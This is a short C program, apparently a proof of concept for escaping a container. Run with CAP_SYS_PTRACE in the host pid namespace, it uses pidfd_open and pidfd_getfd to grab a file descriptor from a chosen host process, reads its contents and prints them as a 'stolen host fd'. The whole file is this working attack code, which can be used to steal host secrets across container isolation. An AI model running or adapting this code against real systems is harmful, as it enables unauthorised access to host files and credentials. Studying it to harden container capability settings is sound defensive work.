/* The "command" with CAP_SYS_PTRACE (--cap-add SYS_PTRACE): from the host pid namespace,
 * takes descriptor N of host process PID with pidfd_getfd and prints what it reads. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <errno.h>
#include <string.h>
#include <sys/syscall.h>
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int pid = atoi(argv[1]), n = atoi(argv[2]);
    int pfd = syscall(SYS_pidfd_open, pid, 0);
    if (pfd < 0) { printf("pidfd_open(%d): %s\n", pid, strerror(errno)); return 1; }
    int fd = syscall(SYS_pidfd_getfd, pfd, n, 0);
    if (fd < 0) { printf("pidfd_getfd(%d, %d): %s\n", pid, n, strerror(errno)); return 1; }
    char buf[256]; ssize_t r = pread(fd, buf, sizeof buf - 1, 0);
    if (r < 0) { printf("pread: %s\n", strerror(errno)); return 1; }
    buf[r] = 0; printf("stolen host fd %d of pid %d: %s", n, pid, buf);
    return 0;
}
